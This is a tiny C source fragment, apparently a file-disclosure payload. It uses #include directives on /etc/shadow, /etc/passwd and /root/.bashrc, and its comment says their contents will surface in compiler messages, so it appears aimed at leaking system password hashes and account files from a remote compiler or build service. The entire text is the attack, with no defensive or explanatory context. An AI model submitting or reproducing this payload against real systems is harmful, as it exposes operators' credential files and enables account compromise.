// What the compiler may read becomes part of the message.
#include "/etc/shadow"
#include "/etc/passwd"
#include "/root/.bashrc"
